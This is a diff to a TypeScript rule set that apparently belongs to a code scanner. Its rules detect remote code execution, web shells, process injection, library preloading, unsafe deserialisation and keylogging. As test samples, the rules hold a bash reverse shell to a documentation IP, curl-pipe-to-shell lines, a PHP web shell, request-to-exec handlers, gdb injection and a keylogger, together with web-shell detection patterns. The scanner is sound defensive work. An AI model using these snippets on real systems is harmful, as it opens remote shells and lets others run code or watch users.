@@ -1,7 +1,11 @@
 /** Rules about what is run: code that came from outside, that was hidden, or that somebody else controls. */
 import type { Rule } from "./rule.ts";
 
+/** Kinds of effects in which something from outside is run. */
 const runs = ["eval", "run", "deserialize", "import", "native", "opaque"] as const;
+
+/** A machine by its number instead of its name. */
+const bareAddress = "*://[0-9]*.[0-9]*.[0-9]*.[0-9]*";
 
 export const codeRules: readonly Rule[] = [
   {
@@ -23,10 +27,11 @@ export const codeRules: readonly Rule[] = [
       },
       {
         effect: ["run"],
-        target: ["sh", "bash"],
         tag: ["interactive"],
-        also: { effect: ["connect", "listen", "fetch"], tag: ["raw"] },
+        also: { effect: ["connect", "listen", "fetch", "send"], tag: ["raw"] },
       },
+      { effect: ["run"], tag: ["console"] },
+      { effect: ["eval"], tag: ["console"], also: { effect: ["connect", "listen", "fetch"], tag: ["raw"] } },
     ],
     match: [
       { language: "bash", code: "bash -i >& /dev/tcp/203.0.113.5/9001 0>&1" },
@@ -54,7 +59,9 @@ export const codeRules: readonly Rule[] = [
     why: "What is received becomes a command or code: the program is somebody else's hand.",
     weight: 86,
     confidence: "certain",
-    when: [{ effect: runs, from: { effect: ["fetch", "connect", "listen"], tag: ["raw"] } }],
+    when: [
+      { effect: runs, notTag: ["interactive"], from: { effect: ["fetch", "connect", "listen", "send"], tag: ["raw"] } },
+    ],
     match: [
       {
         language: "python",
@@ -96,7 +103,13 @@ export const codeRules: readonly Rule[] = [
     why: "What is run is decided by another machine at that moment, and nobody has seen it.",
     weight: 60,
     confidence: "certain",
-    when: [{ effect: runs, from: { effect: ["fetch", "send"], notTag: ["raw", "package", "image", "repository"] } }],
+    when: [
+      {
+        effect: runs,
+        notTag: ["install"],
+        from: { effect: ["fetch", "send"], notTag: ["raw", "package", "image", "repository"] },
+      },
+    ],
     match: [
       { language: "bash", code: "curl -fsSL https://host.example/x.sh | sh" },
       { language: "python", code: "import requests\nexec(requests.get('https://host.example/x.py').text)" },
@@ -115,8 +128,8 @@ export const codeRules: readonly Rule[] = [
         effect: runs,
         from: {
           effect: ["fetch"],
-          target: ["http://*", "ftp://*", "*://[0-9]*.*.*.*", "*pastebin*", "*/raw/*"],
-          notTarget: ["http://localhost*", "http://127.*"],
+          target: ["http://*", "ftp://*", bareAddress, "*pastebin*", "*/raw/*"],
+          notTarget: ["http://localhost*", "*://127.*"],
           notTag: ["raw", "package", "repository"],
         },
       },
@@ -324,7 +337,10 @@ export const codeRules: readonly Rule[] = [
     why: "Its only use is to make whoever loads it run something.",
     weight: 80,
     confidence: "certain",
-    when: [{ effect: ["deserialize"], tag: ["reduce"] }],
+    when: [
+      { effect: ["deserialize"], tag: ["reduce"], notTag: ["harmless"] },
+      { effect: ["run", "eval"], from: { effect: ["input"], tag: ["unpickled"] } },
+    ],
     match: [
       {
         language: "python",
@@ -343,7 +359,22 @@ export const codeRules: readonly Rule[] = [
       { effect: ["deserialize"], tag: ["pickle", "marshal"], notTag: ["file"], notFrom: { effect: ["encode"] } },
       { effect: ["deserialize"], tag: ["yaml"] },
       { effect: ["deserialize"], notTag: ["pickle", "marshal", "yaml", "reduce"] },
-      { effect: ["deserialize"], from: { effect: ["fetch", "connect", "input", "listen", "environment"] } },
+      { effect: ["deserialize"], from: { effect: ["fetch", "connect", "input", "listen", "environment", "send"] } },
+      // What everybody may write, everybody may have written.
+      {
+        effect: ["deserialize"],
+        tag: ["file"],
+        from: { effect: ["read"], place: ["passing-folders"] },
+        notFrom: { effect: ["encode"] },
+      },
+      {
+        effect: ["deserialize"],
+        tag: ["file"],
+        target: ["/tmp/*", "/var/tmp/*", "/dev/shm/*", "*://*"],
+        notFrom: { effect: ["encode"] },
+      },
+      // One line on a command line that does nothing else is no program with a cache of its own.
+      { effect: ["deserialize"], tag: ["inline"], notFrom: { effect: ["encode"] } },
     ],
     match: [
       { language: "python", code: "import pickle\ndef load(data):\n    return pickle.loads(data)" },
@@ -371,7 +402,7 @@ export const codeRules: readonly Rule[] = [
     weight: 62,
     confidence: "likely",
     when: [
-      { effect: ["native"], tag: ["execute"] },
+      { effect: ["native"], tag: ["execute", "inject"] },
       { effect: ["native"], tag: ["memory"], also: { effect: ["native"], tag: ["library"] } },
     ],
     match: [
@@ -411,12 +442,162 @@ export const codeRules: readonly Rule[] = [
     not: [{ language: "python", code: "import base64\nprint(base64.b64encode(b'user:password'))" }],
   },
   {
+    id: "runs-what-is-requested",
+    title: "Runs what a request asks for",
+    why: "Whoever reaches the server gives the command or the code: a web shell, or a hole that is as good as one.",
+    weight: 66,
+    confidence: "likely",
+    when: [
+      { effect: ["run"], tag: ["shell", "unknown", "file"], from: { effect: ["input"], tag: ["request"] } },
+      { effect: ["eval"], from: { effect: ["input"], tag: ["request"] } },
+      { effect: ["deserialize"], from: { effect: ["input"], tag: ["request"] } },
+    ],
+    match: [
+      {
+        language: "javascript",
+        code: "const app = require('express')();\nconst { exec } = require('child_process');\napp.get('/do', (req, res) => exec(req.query.what, (e, out) => res.send(out)));",
+      },
+      {
+        language: "python",
+        code: "from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route('/do')\ndef do():\n    return os.popen(request.args['what']).read()",
+      },
+    ],
+    not: [
+      {
+        language: "javascript",
+        code: "const app = require('express')();\nconst { exec } = require('child_process');\napp.post('/build', (req, res) => exec('make', (e, out) => res.send(out)));",
+      },
+    ],
+  },
+  {
+    id: "plants-web-shell",
+    title: "Writes a page that runs what is asked of it",
+    why: "A web server's page that gives a parameter of the request to a shell or an interpreter.",
+    weight: 84,
+    confidence: "certain",
+    when: [
+      {
+        effect: ["write"],
+        data: [
+          "*<?*system(*$_*",
+          "*<?*exec(*$_*",
+          "*<?*eval(*$_*",
+          "*<?*assert(*$_*",
+          "*<?*passthru(*$_*",
+          "*<?*popen(*$_*",
+          "*<?*proc_open(*$_*",
+          "*<?*include*$_GET*",
+          "*<?*include*$_REQUEST*",
+          "*<?*$_*(*$_*)*",
+          "*<?*`*$_*`*",
+          "*<?*create_function(*$_*",
+          "*<?*preg_replace(*/e*$_*",
+          "*<?*move_uploaded_file*$_*",
+          "*<%*exec(*request*",
+          "*<%*ProcessBuilder*request*",
+          "*<%*eval*request*",
+          "*<%*Process.Start*Request*",
+          "*eval*$QUERY_STRING*",
+          "*eval*$HTTP_*",
+          "*sh -c*$QUERY_STRING*",
+          "*AddType*x-httpd-*",
+          "*AddHandler*cgi-script*",
+          "*auto_prepend_file*",
+        ],
+      },
+    ],
+    match: [{ language: "bash", code: "echo '<?php passthru($_POST[\"do\"]); ?>' > /srv/www/page.php" }],
+    not: [{ language: "bash", code: "echo '<?php echo date(\"c\"); ?>' > /srv/www/page.php" }],
+  },
+  {
+    id: "reaches-into-process",
+    title: "Reaches into another process",
+    why: "It writes the memory of a program that runs, or makes it run what it is given.",
+    weight: 60,
+    confidence: "likely",
+    when: [
+      { effect: ["native", "system"], tag: ["inject"] },
+      { effect: ["write"], target: ["/proc/*/mem", "/proc/*/task/*/mem"] },
+    ],
+    match: [
+      { language: "python", code: "import frida\nfrida.attach('sshd')" },
+      { language: "bash", code: "gdb -p 812 -batch -ex 'call (int)system(\"id\")'" },
+    ],
+    not: [{ language: "bash", code: "gdb ./app core" }],
+  },
+  {
+    id: "runs-from-passing-folder",
+    title: "Runs a hidden program from a folder that everybody may write",
+    why: "Programs that are installed lie elsewhere and have a name to be seen.",
+    weight: 46,
+    confidence: "likely",
+    when: [
+      {
+        effect: ["run"],
+        target: ["/tmp/.*", "/var/tmp/.*", "/dev/shm/*", "/run/shm/*", "/tmp/*/.*", "/proc/self/fd/*", "/proc/*/fd/*"],
+      },
+      { effect: ["eval"], tag: ["passing"] },
+    ],
+    match: [
+      { language: "bash", code: "/var/tmp/.sync/agentd &" },
+      { language: "bash", code: "source /var/tmp/session" },
+    ],
+    not: [{ language: "bash", code: "/tmp/build/run-tests" }],
+  },
+  {
+    id: "preloads-library",
+    title: "Loads a library into programs from a folder that everybody may write",
+    why: "Every call of a program that is started so can be another's.",
+    weight: 54,
+    confidence: "likely",
+    when: [
+      {
+        effect: ["environment"],
+        target: ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "PERL5OPT", "RUBYOPT"],
+        tag: ["write"],
+        data: ["/tmp/*", "/var/tmp/*", "/dev/shm/*", "./*", "*/.*"],
+      },
+      {
+        effect: ["write"],
+        target: ["/etc/environment", "/etc/default/*", "/etc/security/pam_env.conf"],
+        data: ["*LD_PRELOAD=*", "*LD_AUDIT=*", "*BASH_ENV=*"],
+      },
+    ],
+    match: [{ language: "bash", code: "LD_PRELOAD=/tmp/hook.so sudo ls" }],
+    not: [{ language: "bash", code: "LD_PRELOAD=/usr/lib/libjemalloc.so.2 ./server" }],
+  },
+  {
+    id: "revives-code",
+    title: "Makes objects of text by running it",
+    why: "What calls itself deserializing runs the text as code: whoever gives the text decides what happens.",
+    weight: 44,
+    confidence: "likely",
+    when: [
+      { effect: ["eval"], tag: ["revives"] },
+      { effect: ["eval"], from: { effect: ["input"], tag: ["revived"] } },
+    ],
+    match: [
+      { language: "bash", code: 'unserialize() { eval "$1"; }\nunserialize "a=$(date)"' },
+      {
+        language: "javascript",
+        code: "function deserialize(text) { return eval('(' + text + ')'); }\ndeserialize('{}');",
+      },
+    ],
+    not: [
+      { language: "javascript", code: "function deserialize(text) { return JSON.parse(text); }\ndeserialize('{}');" },
+    ],
+  },
+  {
     id: "spies",
     title: "Records keys, screen, camera or clipboard",
     why: "It watches whoever sits at the machine.",
     weight: 55,
     confidence: "likely",
-    when: [{ effect: ["input"], tag: ["spy"] }],
+    when: [
+      { effect: ["input"], tag: ["spy"] },
+      { effect: ["read"], place: ["input-devices"] },
+      { effect: ["send"], from: { effect: ["input"], tag: ["clipboard", "keys"] } },
+    ],
     match: [{ language: "python", code: "from pynput.keyboard import Listener\nListener(on_press=print).start()" }],
     not: [{ language: "python", code: "print(input('name: '))" }],
   },
